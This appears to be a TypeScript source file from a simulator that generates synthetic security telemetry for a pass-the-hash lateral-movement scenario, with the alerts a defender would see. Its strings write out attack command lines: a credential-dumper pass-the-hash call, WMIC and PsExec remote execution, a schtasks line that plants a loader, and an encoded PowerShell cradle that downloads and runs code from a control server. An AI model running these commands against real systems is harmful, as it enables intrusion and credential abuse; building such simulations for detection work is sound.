// How story two moves from computer to computer with a hash.

import { type Account, domain } from '../../company/accounts.js';
import type { Device } from '../../company/devices.js';
import { hashesOf, program } from '../../company/software.js';
import type { Machine } from '../../machines/machine.js';
import { downLevelName } from '../../machines/paths.js';
import type { Process } from '../../machines/process.js';
import { type Moment, minute, second } from '../../timeline.js';
import type { World } from '../../world.js';
import { encodeCommand } from '../story.js';
import { controlServer, dumper, loader, stolen, victimOf } from './cast.js';

/** The hash of an administrator opens the servers: WMI, PsExec and remote tasks, one each. */
export function passTheHash(world: World, at: Moment, implant: Process): void {
  const { device, person } = victimOf(world);
  const origin = world.machine(device);
  const account = stolen(world);
  const shell = origin.start(at, {
    parent: implant,
    program: dumper,
    commandLine: `mk64.exe "sekurlsa::pth /user:${account.name} /domain:${domain.dns} /ntlm:${hashesOf('the administrator').md5} /run:cmd.exe" exit`,
  });
  const console = origin.start(at + 2 * second, { parent: shell, program: 'cmd.exe', commandLine: 'cmd.exe' });
  origin.logon(at + 2 * second, {
    account,
    type: 'NewCredentials',
    protocol: 'Negotiate',
    localAdmin: true,
    by: origin.service('svchost.exe', 'svchost.exe -k netsvcs -p -s seclogon'),
  });
  const [database, print, jump] = (['database-server', 'print-server', 'jump-server'] as const).map((role) =>
    world.company.server(role),
  );
  if (!database || !print || !jump) throw new Error('story: expected three servers');

  const wmic = origin.start(at + 2 * minute, {
    parent: console,
    program: 'WMIC.exe',
    commandLine: `wmic /node:"${database.ip}" /user:"${downLevelName(account)}" process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"`,
  });
  origin.connect(at + 2 * minute + second, wmic, { to: { ip: database.ip, port: 135, url: database.name } });
  const onDatabase = arrive(world, at + 2 * minute + second, database, account, device);
  const host = onDatabase.service('WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding');
  const remote = onDatabase.start(at + 2 * minute + 2 * second, {
    parent: host,
    program: 'cmd.exe',
    commandLine: 'cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt',
    account,
    integrity: 'High',
  });
  onDatabase.event(at + 2 * minute + 2 * second, 'RemoteWmiOperation', host, {
    RemoteIP: device.ip,
    RemoteDeviceName: device.name,
    AccountName: account.name,
    AccountSid: account.sid,
  });
  onDatabase.start(at + 2 * minute + 3 * second, { parent: remote, program: 'whoami.exe', commandLine: 'whoami' });
  onDatabase.start(at + 2 * minute + 9 * second, {
    parent: host,
    program: 'powershell.exe',
    commandLine: `powershell.exe -enc ${encodeCommand(`IEX (New-Object Net.WebClient).DownloadString('https://${controlServer.url}:8443/s'); Get-ADComputer -Filter *; net user`)}`,
    account,
    integrity: 'High',
  });

  const psexec = origin.start(at + 7 * minute, {
    parent: console,
    program: 'PsExec.exe',
    commandLine: `PsExec.exe -accepteula \\\\${print.host} -s cmd.exe /c "net localgroup administrators"`,
  });
  origin.connect(at + 7 * minute + second, psexec, { to: { ip: print.ip, port: 445, url: print.name } });
  const onPrint = arrive(world, at + 7 * minute + second, print, account, device);
  const service = program('PSEXESVC.exe');
  onPrint.file(at + 7 * minute + 2 * second, onPrint.service('ntoskrnl.exe'), {
    folder: service.folder,
    name: service.fileName,
    content: service,
    size: service.size,
    request: { account, ip: device.ip, share: 'ADMIN$' },
  });
  const runner = onPrint.start(at + 7 * minute + 3 * second, {
    parent: onPrint.service('services.exe'),
    program: service,
    commandLine: 'C:\\Windows\\PSEXESVC.exe',
  });
  const onPrintShell = onPrint.start(at + 7 * minute + 4 * second, {
    parent: runner,
    program: 'cmd.exe',
    commandLine: 'cmd.exe /c "net localgroup administrators"',
  });
  onPrint.start(at + 7 * minute + 5 * second, {
    parent: onPrintShell,
    program: 'net.exe',
    commandLine: 'net localgroup administrators',
  });

  const scheduler = origin.start(at + 12 * minute, {
    parent: console,
    program: 'schtasks.exe',
    commandLine: `schtasks /create /s ${jump.host} /tn Defrag2 /tr "C:\\Windows\\Temp\\spectrasvc.exe" /sc once /st 21:30 /ru SYSTEM`,
  });
  origin.connect(at + 12 * minute + second, scheduler, { to: { ip: jump.ip, port: 49_667, url: jump.name } });
  const onJump = arrive(world, at + 12 * minute + second, jump, account, device);
  const schedule = onJump.service('svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule');
  onJump.file(at + 12 * minute + 2 * second, onJump.service('ntoskrnl.exe'), {
    folder: 'C:\\Windows\\Temp',
    name: loader.fileName,
    content: loader,
    size: loader.size,
    request: { account, ip: device.ip, share: 'C$' },
  });
  onJump.event(
    at + 12 * minute + 3 * second,
    'ScheduledTaskCreated',
    schedule,
    { RemoteDeviceName: device.name, RemoteIP: device.ip },
    {
      TaskName: '\\Defrag2',
      TaskContent: '<Exec><Command>C:\\Windows\\Temp\\spectrasvc.exe</Command></Exec>',
      SubjectUserSid: account.sid,
    },
  );
  onJump.start(at + 25 * minute, { parent: schedule, program: { ...loader, folder: 'C:\\Windows\\Temp' } });
  world.identity.change(at + 13 * minute, {
    action: 'Potential lateral movement path identified',
    by: account,
    from: device,
    on: world.company.server('domain-controller'),
    targetAccount: account,
    additional: { 'FROM.ACCOUNT': person.account.displayName },
  });
  world.alerts.raise(at + 15 * minute, {
    title: 'Successful logon using overpass-the-hash with potentially stolen credentials',
    category: 'LateralMovement',
    severity: 'High',
    techniques: ['Pass the Hash (T1550.002)'],
    device,
    account,
    process: shell,
  });
  world.alerts.raise(at + 16 * minute, {
    title: 'Suspicious transfer of an executable file',
    category: 'LateralMovement',
    severity: 'Medium',
    techniques: ['Lateral Tool Transfer (T1570)'],
    device: jump,
    account,
    file: { ...loader, folder: 'C:\\Windows\\Temp' },
  });
}

/** The network logon that remote execution leaves on the other computer. */
export function arrive(world: World, at: Moment, target: Device, account: Account, from: Device): Machine {
  const machine = world.machine(target);
  machine.connect(at, machine.service('ntoskrnl.exe'), {
    action: 'InboundConnectionAccepted',
    to: { ip: from.ip, port: 52_311, url: '' },
    localPort: 445,
  });
  machine.logon(at, {
    account,
    type: 'Network',
    protocol: 'NTLM',
    from: { ip: from.ip, device: from.host },
    localAdmin: true,
  });
  world.identity.logon(at, { account, from, to: target, protocol: 'Ntlm', type: 'Resource access' });
  return machine;
}
